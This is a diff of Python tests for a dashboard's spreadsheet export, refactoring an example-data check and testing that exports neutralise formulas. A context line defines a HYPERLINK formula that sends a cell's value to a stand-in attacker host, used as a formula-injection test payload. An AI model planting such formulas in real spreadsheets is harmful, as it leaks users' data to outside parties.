@@ -9,7 +9,7 @@ from openpyxl import load_workbook
 from dashboard.exports import tables as export
 from dashboard.exports.tables import OBS_COLUMNS
 from dashboard.model import sources as sources_view
-from dashboard.model.indicators import has_example
+from dashboard.model.quality import quality_of
 from dashboard.text.i18n import translator
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -113,7 +113,7 @@ def test_indicator_xlsx_about_and_formula_safety():
     ind, obs = _indicators(), _obs()
     frame = export.observations_frame(obs, ind, _communes(), _sources(), "fr")
     about = export.about_rows("fr", title="Test", data_date="27 nov. 2026", sources=_sources(),
-                              source_ids=export.used_source_ids(frame), example=has_example(frame))
+                              source_ids=export.used_source_ids(frame), example=quality_of(frame).is_example)
     data = export.to_xlsx({"Data": frame}, about)
     wb = load_workbook(io.BytesIO(data))
     assert wb.sheetnames == ["Data", "About"]
@@ -143,7 +143,7 @@ def test_indicator_xlsx_about_and_formula_safety():
 def test_no_example_mark_without_example_rows():
     ind, obs = _indicators(), _obs()
     frame = export.observations_frame(obs[obs["quality"] != "example"], ind, _communes(), _sources(), "en")
-    assert not has_example(frame)
+    assert not quality_of(frame).is_example
     about = export.about_rows("en", title="T", data_date="d", sources=_sources(),
                               source_ids=export.used_source_ids(frame), example=False)
     assert not any(r and r[0] == "EXAMPLE" for r in about)
@@ -161,7 +161,7 @@ def test_everything_csv_and_xlsx_with_scoped():
     assert s["note"] == "'=1+1" and s["licence"] == "Open data licence Statbel"
     assert (back.loc[back["quality"] == "example", "quality"] == "example").all() and (back["quality"] == "example").any()
     about = export.about_rows("en", title="All", data_date="d", sources=src,
-                              source_ids=export.used_source_ids(obs, sc), example=has_example(obs, sc))
+                              source_ids=export.used_source_ids(obs, sc), example=quality_of(obs, sc).is_example)
     wb = load_workbook(io.BytesIO(export.to_xlsx({"Observations": obs, "Scoped figures": sc}, about)))
     assert wb.sheetnames == ["Observations", "Scoped figures", "About"]
     assert wb["Scoped figures"].max_row == 2
